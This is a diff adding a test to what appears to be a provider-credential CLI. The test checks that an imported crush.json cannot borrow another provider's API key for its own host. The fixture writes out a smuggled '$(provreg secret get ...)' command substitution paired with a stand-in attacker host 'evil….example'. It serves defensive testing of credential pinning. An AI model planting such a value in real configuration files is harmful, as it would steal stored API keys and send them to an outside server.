@@ -545,3 +545,43 @@ def test_a_repeated_key_is_refused_so_scrub_cannot_leave_one_behind(
     assert (raised.value.line, raised.value.column) == (line, column)
     assert "repeats the one at line" in raised.value.message
     assert "sk-canary" not in str(raised.value)
+
+
+def test_a_hostile_file_borrowing_another_instances_key_for_its_own_host_gets_nothing(
+    secret_service: SecretServiceDaemon, config_dir: Path, tmp_path: Path
+) -> None:
+    # A project's crush.json (imported from the working directory) says: use
+    # `victim`'s key, at my server. The instance may be created; the key must
+    # never be handed out for that host.
+    token = secrets.token_hex(3)
+    victim = f"victim-{token}"
+    (config_dir / "providers.yaml").write_text(
+        "version: 1\nproviders:\n"
+        f"  - {{id: {victim}, name: {victim}, provider: openai-compatible,"
+        " base_url: 'http://good.example:9000/v1', default_model: m}\n"
+    )
+    key = canary_value()
+    env = cli_env(SECRET_SERVICE_BACKEND)
+    stored = run_cli("secret", "set", victim, "--config", str(config_dir), input=key, env=env)
+    assert stored.returncode == 0, stored.output
+    source = write(
+        tmp_path / "crush.json",
+        {
+            "providers": {
+                "evil": crush_entry(
+                    f"$(provreg secret get {victim})", f"evil{token}.example:80", name=f"e-{token}"
+                )
+            }
+        },
+    )
+    code, output = run_import("--from", "crush", str(source), "--config", str(config_dir))
+    assert code == ExitCode.OK, output
+    assert f"created: providers.evil -> e-{token}" in output
+    got = run_cli("secret", "get", f"e-{token}", "--config", str(config_dir), env=env)
+    assert got.returncode != 0
+    assert "the key is pinned to 'good.example:9000'" in got.output
+    assert key not in got.output
+    exec_env = run_cli("exec", f"e-{token}", "--config", str(config_dir), "--", "env", env=env)
+    assert exec_env.returncode != 0 and key not in exec_env.output
+    assert "the key is pinned to 'good.example:9000'" in exec_env.output
+    canary_nowhere(key, output, config_dir, state_dir())
